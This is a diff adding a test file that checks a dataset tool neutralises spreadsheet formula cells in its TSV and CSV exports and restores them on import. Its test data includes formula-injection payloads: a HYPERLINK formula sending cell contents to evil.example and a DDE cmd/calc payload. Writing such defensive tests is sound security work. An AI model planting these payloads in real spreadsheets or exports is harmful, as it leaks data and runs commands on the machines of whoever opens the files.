@@ -1,0 +1,81 @@
+/**
+ * Issue #27, finding 8: the TSAR TSV export wrote cells a spreadsheet runs as
+ * formulas. Every TSV/CSV lexgold writes neutralises such cells (a leading
+ * apostrophe: lib/lexsub/formats/spreadsheet.ts), and the importers read them
+ * back as they were.
+ */
+import { describe, expect, it } from "vitest";
+import { parseLemmaDecisionsTsv } from "../../lib/lexsub/formats/lemma-decisions";
+import { formatRankTable, type RankTable } from "../../lib/scorers/rank";
+import { SYSTEM } from "../../lib/server/actor";
+import { importLexeltXml } from "../../lib/server/corpus";
+import { exportDataset, importDataset, importDatasetAsNewProject } from "../../lib/server/datasets";
+import { importKnownAnswers, knownAnswerItems } from "../../lib/server/training";
+import { world } from "./world";
+
+const enc = (s: string) => new TextEncoder().encode(s);
+/** A spreadsheet runs any of these. */
+const FORMULA = /^[=+\-@\t\r]/;
+
+/** A TSAR file an attacker hands a coordinator: a sentence, a complex word and annotations that are formulas. */
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?"&A1,"click") then the plant grew\tplant\t+tree\t@cmd\t-flower\t-flower',
+  "@SUM(1+1) a quiet sea\t@SUM(1+1)\tcalm",
+  "'=already quoted once and the tide\ttide\tsea",
+].join("\n");
+
+function cells(tsv: string): string[] {
+  return tsv.split("\n").filter((l) => l !== "").flatMap((l) => l.split("\t"));
+}
+
+describe("finding 8: no formula cells in the TSAR export, and the import reads its own export back", () => {
+  it("an imported hostile TSAR file is exported with every cell neutralised, and reads back unchanged", () => {
+    const w = world();
+    const first = importDatasetAsNewProject(w.db, SYSTEM, "hostile", { format: "tsar", fileName: "h.tsv", bytes: enc(HOSTILE) });
+    expect(first.instancesAdded).toBe(3);
+    const id = (name: string) => (w.db.$client.prepare("select id from projects where name = ?").get(name) as { id: number }).id;
+    const out = exportDataset(w.db, SYSTEM, id("hostile"), "tsar");
+    for (const c of cells(out.text)) expect(c, c).not.toMatch(FORMULA);
+    expect(out.text.split("\n")[0]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click") then the plant grew\tplant\t'+tree\t'@cmd\t'-flower\t'-flower`);
+
+    // The export imported again gives the same sentences, heads and gold.
+    importDatasetAsNewProject(w.db, SYSTEM, "again", { format: "tsar", fileName: "h.tsv", bytes: enc(out.text) });
+    const again = exportDataset(w.db, SYSTEM, id("again"), "tsar");
+    expect(again.text).toBe(out.text);
+    const sentences = (name: string) =>
+      w.db.$client
+        .prepare("select i.before || i.head || i.after as s, i.head as h from instances i where i.project_id = ? order by i.id")
+        .all(id(name));
+    expect(sentences("again")).toEqual(sentences("hostile"));
+    expect((sentences("again") as { s: string }[]).map((r) => r.s)).toEqual([
+      '=HYPERLINK("http://evil.example/?"&A1,"click") then the plant grew',
+      "@SUM(1+1) a quiet sea",
+      // A cell that came neutralised is read as its value, as the responses import does.
+      "=already quoted once and the tide",
+    ]);
+  });
+
+  it("the dataset import restores a neutralised cell into a project that has other data", () => {
+    const w = world();
+    importDataset(w.db, w.coord, w.p.id, { format: "tsar", fileName: "t.tsv", bytes: enc("'-minus a swift reply\tswift\t'+quick\n") });
+    const row = w.db.$client.prepare("select before, head, after from instances where project_id = ? and head = 'swift'").get(w.p.id);
+    expect(row).toEqual({ before: "-minus a ", head: "swift", after: " reply" });
+  });
+
+  it("the ranking table's CSV neutralises run names", () => {
+    const t: RankTable = { benchmark: "tsar", gold: "g", columns: ["MAP@1"], rankedBy: "MAP@1", digits: 4, settings: [], rows: [{ run: '=cmd|" /C calc"!A0', format: "tsv", values: [0.5], items: 1, report: "" }], diagnostics: [] };
+    const csv = formatRankTable(t, { csv: true });
+    expect(csv).toBe(`Rank,Run,MAP@1\n1,"'=cmd|"" /C calc""!A0",0.5000\n`);
+  });
+
+  it("the lemma decisions and known answers TSVs read a neutralised cell as its value", () => {
+    expect(parseLemmaDecisionsTsv("'-dash\t'=lemma\n", "d.tsv").decisions).toEqual([{ line: 1, form: "-dash", decision: "overridden", lemma: "=lemma" }]);
+    const w = world();
+    importLexeltXml(w.db, SYSTEM, w.p.id, {
+      fileName: "minus.xml",
+      bytes: enc(`<?xml version="1.0"?>\n<corpus lang="english"><lexelt item="swift.a"><instance id="-9"><context>a <head>swift</head> reply</context></instance></lexelt></corpus>\n`),
+    });
+    expect(importKnownAnswers(w.db, w.coord, w.p.id, { role: "training", fileName: "k.tsv", text: "'-9\tquick;rapid\n" })).toEqual({ added: 1 });
+    expect(knownAnswerItems(w.db, w.coord, w.p.id).map((k) => k.instanceId)).toEqual(["-9"]);
+  });
+});
